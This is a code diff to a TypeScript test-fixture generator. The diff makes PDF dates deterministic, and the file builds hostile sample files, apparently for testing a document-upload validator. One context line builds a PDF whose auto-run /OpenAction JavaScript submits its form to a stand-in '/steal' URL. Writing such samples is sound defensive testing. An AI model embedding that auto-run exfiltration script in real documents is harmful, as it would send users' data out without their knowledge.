@@ -49,6 +49,7 @@ export async function makeBases(): Promise<Bases> {
   const image = await doc.embedJpg(jpeg);
   const p = doc.addPage([image.width * 0.6, image.height * 0.6]);
   p.drawImage(image, { x: 0, y: 0, width: p.getWidth(), height: p.getHeight() });
+  fixDates(doc);
   const pdf = Buffer.from(await doc.save({ useObjectStreams: false }));
   return { jpeg, png, tiff, pdf };
 }
@@ -139,8 +140,15 @@ export function tiffClaiming(pages: number, width: number, height: number): Buff
 
 // ------------------------------------------------------------------ PDF mutations
 
+/** pdf-lib stamps the time: fixed, so that the same seed makes the same bytes (and the same list). */
+function fixDates(doc: PDFDocument): void {
+  doc.setCreationDate(new Date(0));
+  doc.setModificationDate(new Date(0));
+}
+
 async function pdfWithPages(count: number): Promise<Buffer> {
   const doc = await PDFDocument.create();
+  fixDates(doc);
   for (let i = 0; i < count; i++) doc.addPage([595, 842]);
   return Buffer.from(await doc.save());
 }
@@ -148,6 +156,7 @@ async function pdfWithPages(count: number): Promise<Buffer> {
 /** A page of `size` × `size` points: at 200 dpi, 3600 pt is 10000 × 10000 px. */
 export async function pdfPageOf(size: number): Promise<Buffer> {
   const doc = await PDFDocument.create();
+  fixDates(doc);
   const page = doc.addPage([size, size]);
   const font = await doc.embedFont(StandardFonts.Helvetica);
   page.drawText('TO KHAI DANG KY KHAI SINH', { x: 72, y: size - 144, size: 48, font });
@@ -179,7 +188,7 @@ function nestedPdf(depth: number, how: 'array' | 'dict'): Buffer {
 
 /** The sample scan with an /OpenAction JavaScript, and with an AcroForm text field over it. */
 async function pdfWithActiveContent(base: Buffer, what: 'javascript' | 'form'): Promise<Buffer> {
-  const doc = await PDFDocument.load(base);
+  const doc = await PDFDocument.load(base, { updateMetadata: false });
   if (what === 'javascript') {
     const js = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("x"); this.submitForm("http://127.0.0.1:9/steal");') });
     doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(js));
